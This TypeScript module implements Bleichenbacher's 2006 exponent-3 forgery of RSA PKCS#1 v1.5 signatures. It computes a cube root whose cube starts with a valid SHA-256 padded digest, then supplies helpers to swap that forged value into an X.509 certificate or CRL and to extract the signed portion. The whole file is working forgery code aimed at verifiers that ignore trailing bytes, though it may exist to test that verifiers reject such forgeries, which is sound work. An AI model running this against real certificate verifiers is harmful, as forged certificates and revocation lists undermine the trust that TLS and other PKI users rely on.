/**
 * Forged RSA PKCS#1 v1.5 signatures under exponent 3 (Bleichenbacher 2006): a block that begins rightly and ends in garbage is a
 * perfect cube, so its root can be had without the private key. A verifier that does not look at the garbage takes it.
 */
import { createHash } from 'node:crypto';

const SHA256_INFO = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/** A value whose cube under a 2048-bit modulus begins with the padded digest of `data`. */
export function forgeUnderExponent3(data: Uint8Array, octets = 256): Uint8Array {
  const digest = createHash('sha256').update(data).digest();
  const head = Buffer.concat([Buffer.from('0001ffffffffffffffff00', 'hex'), SHA256_INFO, digest]);
  const block = Buffer.concat([head, Buffer.alloc(octets - head.length)]);
  const root = cubeRootAbove(toBig(block));
  const cube = Buffer.from((root ** 3n).toString(16).padStart(2 * octets, '0'), 'hex');
  if (!cube.subarray(0, head.length).equals(head)) throw new Error('the forgery does not fit');
  return Buffer.from(root.toString(16).padStart(2 * octets, '0'), 'hex');
}

function toBig(bytes: Buffer): bigint {
  return BigInt(`0x${bytes.toString('hex')}`);
}

function cubeRootAbove(value: bigint): bigint {
  let low = 0n;
  let high = 1n << 700n;
  while (low < high) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n < value) low = middle + 1n;
    else high = middle;
  }
  return low;
}

/** An X.509 certificate or CRL with another signature value of the same length. */
export function withSignature(der: Uint8Array, signature: Uint8Array): Uint8Array {
  return Buffer.concat([der.subarray(0, der.length - signature.length), signature]);
}

/** The part of a certificate or CRL that is signed. */
export function signedPartOf(der: Uint8Array): Uint8Array {
  const bytes = Buffer.from(der);
  const from = headLength(bytes, 0);
  return bytes.subarray(from, from + headLength(bytes, from) + contentLength(bytes, from));
}

function headLength(der: Buffer, at: number): number {
  const first = der[at + 1]!;
  return first < 0x80 ? 2 : 2 + (first & 0x7f);
}

function contentLength(der: Buffer, at: number): number {
  const first = der[at + 1]!;
  return first < 0x80 ? first : der.readUIntBE(at + 2, first & 0x7f);
}
